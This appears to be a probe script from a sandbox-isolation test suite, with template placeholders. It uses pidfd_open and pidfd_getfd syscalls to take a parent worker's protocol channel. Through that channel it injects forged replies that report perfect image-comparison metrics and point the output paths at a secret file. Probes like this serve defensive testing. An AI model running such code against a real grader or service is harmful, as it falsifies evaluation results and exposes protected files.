# Takes the worker's protocol channel: pidfd_open on the parent, then pidfd_getfd (raw system calls) on
# each of its descriptors, and writes forged replies into it: ok, perfect figures, and a diff_png and
# png that name a secret file.

import errno
import os

# {{PRELUDE attempts}}


import ctypes
import platform

# {{PRELUDE syscalls}}


forged = ('{"id": %d, "ok": true, "width": 10, "height": 10, "png": "{{SECRET_FILE}}", "diff_png": "{{SECRET_FILE}}", '
          '"metrics": {"fidelity": 1, "ssim": 1, "pixelMatch": 1, "edgeF1": 1, "colorDistance": 0}}\n')
worker = os.getppid()
pidfds = []

attempt("pidfd_open(worker)", lambda: pidfds.append(syscall(434, worker, 0)))
# A /proc/<pid> directory descriptor also works as a pidfd.
attempt("open /proc/<worker> as a pidfd", lambda: pidfds.append(os.open("/proc/%d" % worker, os.O_RDONLY | os.O_DIRECTORY)))


def take_channel():
    pidfd = pidfds[0] if pidfds else 0
    for target in range(0, 32):
        try:
            fd = syscall(438, pidfd, target, 0)
        except OSError as error:
            if error.errno == errno.EBADF and pidfds:
                continue
            raise
        for rid in range(1, 100):
            os.write(fd, (forged % rid).encode())
        print(HOLE, "wrote forged replies into the worker's descriptor", target, flush=True)


attempt("pidfd_getfd(worker's descriptors)", take_channel)
finish()
